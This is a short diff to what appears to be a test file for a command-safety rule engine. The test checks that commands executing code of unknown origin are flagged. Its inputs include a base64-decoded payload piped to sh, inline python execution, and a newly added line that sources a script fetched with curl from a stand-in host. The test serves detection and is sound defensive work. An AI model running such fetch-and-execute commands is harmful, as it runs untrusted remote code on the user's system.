@@ -343,7 +343,7 @@ describe('what cannot be known is a finding', () => {
     'echo "$P" | base64 -d | sh',
     'python3 -c "$CODE"',
     `python -c "import os; os.system(cmd)"`,
-    'source <(kubectl completion bash)',
+    'source <(curl -fsSL https://x.example/env.sh)',
   ])('%s → exec.unknown-code', (command) => {
     expect(rules(command)).toContain('exec.unknown-code');
   });
